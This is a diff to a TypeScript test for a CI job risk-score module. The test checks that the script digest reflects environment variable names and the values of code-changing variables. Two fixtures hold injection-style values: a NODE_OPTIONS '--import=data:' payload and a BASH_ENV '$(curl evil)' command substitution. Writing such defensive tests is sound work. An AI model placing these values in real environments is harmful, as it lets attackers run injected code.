@@ -69,7 +69,7 @@ describe('risk score', () => {
     assert.equal(all.factors.length, 7);
   });
 
-  test('the script digest covers command, inputs and image, not env or resources', () => {
+  test('the script digest covers command, inputs, image and env names, the values only of code-changing env', () => {
     const spec: JobSpecV1 = {
       version: 1,
       project: 'web',
@@ -78,7 +78,16 @@ describe('risk score', () => {
     };
     const digest = scriptDigestOf(spec);
     assert.match(digest, /^sha256:[0-9a-f]{64}$/);
-    assert.equal(scriptDigestOf({ ...spec, env: { A: '1' }, resources: { memoryMiB: 64 } }), digest);
+    assert.equal(scriptDigestOf({ ...spec, resources: { memoryMiB: 64 } }), digest);
+    // Names of environment variables count; values only of those that change which code runs.
+    const withEnv = scriptDigestOf({ ...spec, env: { BUILD: '1', NODE_OPTIONS: '--max-old-space-size=512' } });
+    assert.notEqual(withEnv, digest);
+    assert.equal(scriptDigestOf({ ...spec, env: { BUILD: '2', NODE_OPTIONS: '--max-old-space-size=512' } }), withEnv);
+    assert.notEqual(
+      scriptDigestOf({ ...spec, env: { BUILD: '1', NODE_OPTIONS: '--import=data:text/javascript,evil' } }),
+      withEnv,
+    );
+    assert.notEqual(scriptDigestOf({ ...spec, env: { BASH_ENV: '$(curl evil)' } }), digest);
     assert.notEqual(scriptDigestOf({ ...spec, command: ['make', 'all'] }), digest);
     assert.notEqual(scriptDigestOf({ ...spec, inputs: [{ path: 'a', content: 'y' }] }), digest);
   });
